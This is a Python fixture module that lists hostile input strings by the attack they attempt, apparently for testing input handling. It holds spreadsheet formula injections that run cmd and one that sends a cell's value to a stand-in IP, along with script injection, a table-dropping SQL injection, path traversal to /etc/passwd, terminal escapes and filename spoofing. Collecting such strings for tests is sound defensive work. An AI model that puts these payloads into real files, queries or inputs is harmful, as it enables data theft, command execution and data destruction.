"""Texts that somebody might type, paste or send to do harm, by what they try."""

from types import MappingProxyType
from typing import Final

HOSTILE: Final = MappingProxyType(
    {
        "html": "<b>bold</b><script>x()</script><img src='file:///etc/passwd'>&amp;",
        "formula": '=HYPERLINK("http://192.0.2.1/?"&A1;"open")',
        "formula, plus": "+1+cmd|' /C calc'!A0",
        "formula, minus": "-2+3+cmd|' /C calc'!A0",
        "formula, at": "@SUM(1+9)*cmd|' /C calc'!A0",
        "formula, wide": "\uff1d1\uff0b2",
        "sql": "Robert'); DROP TABLE machine;-- \" OR 1=1",
        "wild": "50%_*?[a-z]^$\\",
        "format": "{0.__class__} {customer} %s %(x)s %n ${HOME} {{}}",
        "lines": "one\ntwo\r\nthree\u2028four\x85five\x0bsix",
        "tab": "\tled by a tab",
        "control": "a\x01\x07\x08\x7f\x9b2Jz",
        "terminal": "\x1b[2J\x1b]0;title\x07\x1b[31mred",
        "right to left": "safe\u202egnp.exe\u2066\u2067\u2068 after",
        "unseen": "Ada\u200b\ufeff\u00ad\u2060 Lovelace",
        "marks": "Z" + "\u0301\u0330\u0488" * 200 + "o",
        "emoji": "\U0001f469\u200d\U0001f527\U0001f1e6\U0001f1fa" * 8,
        "script": "\u05e9\u05dc\u05d5\u05dd 123 \u0645\u0631\u062d\u0628\u0627",
        "no blank": "W" * 3000,
        "path": "../../../../etc/passwd",
        "megabyte": "M\u00fcller " * (2**20 // 7),
    }
)
"""Each can be kept as it is; what no database keeps stands in `UNKEPT`."""

UNKEPT: Final = ("a\x00b", "half \ud83d of a sign", "\udc80")
